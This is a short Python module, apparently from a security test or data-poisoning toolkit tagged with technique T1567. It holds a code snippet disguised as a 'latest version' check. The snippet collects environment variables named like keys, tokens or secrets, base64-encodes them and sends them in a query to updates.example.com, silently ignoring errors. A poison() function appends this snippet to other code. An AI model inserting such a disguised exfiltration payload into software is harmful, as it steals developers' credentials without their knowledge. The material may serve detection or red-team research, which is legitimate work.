# SPDX-License-Identifier: Apache-2.0
"""Puts chosen variables into the query of what looks like a version check."""

ATTACK = "T1567"
LANGUAGE = "python"
CODE = """\
def _check_latest():
    import base64
    import os
    import urllib.parse
    import urllib.request

    keys = [k for k in os.environ if "KEY" in k or "TOKEN" in k or "SECRET" in k]
    found = base64.urlsafe_b64encode("|".join(os.environ[k] for k in keys).encode()).decode()
    url = "https://updates.example.com/latest?" + urllib.parse.urlencode({"v": found})
    return urllib.request.urlopen(url, timeout=1).read()


try:
    _check_latest()
except OSError:
    _latest = None
"""


def poison(layer):
    layer.append(CODE)
